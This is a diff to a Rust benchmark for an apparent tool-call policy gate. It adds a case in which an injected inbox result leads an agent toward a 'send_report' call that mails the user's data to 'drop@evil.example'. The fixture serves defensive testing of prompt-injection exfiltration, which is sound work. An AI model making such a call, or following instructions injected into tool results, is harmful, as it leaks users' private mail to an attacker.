@@ -43,7 +43,7 @@ fn bench(c: &mut Criterion) {
         "{}\n[[tool]]\nmatch = \"send_report\"\nclass = \"irreversible\"\n",
         toolgate::policy::DEFAULT_POLICY
     );
-    let set = PolicySet::from_sources(&[("p.toml".to_string(), policy)]).unwrap();
+    let set = PolicySet::from_sources(&[("p.toml".to_string(), policy.clone())]).unwrap();
     let gates = Gates::new(std::sync::Arc::new(set), &Parts::default());
     let mut t = Texts::default();
     t.push_tool("call_1", &injected);
@@ -78,6 +78,45 @@ fn bench(c: &mut Criterion) {
     c.bench_function("decide with taint, 2 KB args, no tool results", |b| {
         b.iter(|| rt.block_on(gates.decide(&call, &clean)))
     });
+
+    // The recommended policy reads the described and delegated signals too:
+    // a call whose recipient the (injected) result names beside "email".
+    let taint = std::fs::read_to_string(
+        std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("policies/examples/taint.toml"),
+    )
+    .unwrap();
+    let set = PolicySet::from_sources(&[
+        ("default.toml".to_string(), policy),
+        ("taint.toml".to_string(), taint),
+    ])
+    .unwrap();
+    let recommended = Gates::new(std::sync::Arc::new(set), &Parts::default());
+    let mut t = Texts::default();
+    t.push_call("call_1", "read_inbox", "{\"folder\":\"inbox\"}");
+    t.push_tool("call_1", &injected);
+    t.last_user = Some("Summarise my inbox and send the report to finance.".into());
+    t.push_user("Summarise my inbox and send the report to finance.");
+    let mut described = Context {
+        phase: "execution".into(),
+        ..Context::default()
+    };
+    toolgate::context::fill(
+        &mut described,
+        &http::HeaderMap::new(),
+        Some("execution"),
+        None,
+        t,
+    );
+    described.declared = ctx.declared.clone();
+    let outward = Call {
+        name: "send_report".into(),
+        arguments: json!({"to": "drop@evil.example", "ref": "13", "body": body}).to_string(),
+        ..Call::default()
+    };
+    c.bench_function(
+        "decide with taint.toml (described, delegated), 2 KB args, tainted 10 KB context",
+        |b| b.iter(|| rt.block_on(recommended.decide(&outward, &described))),
+    );
 }
 
 criterion_group!(benches, bench);
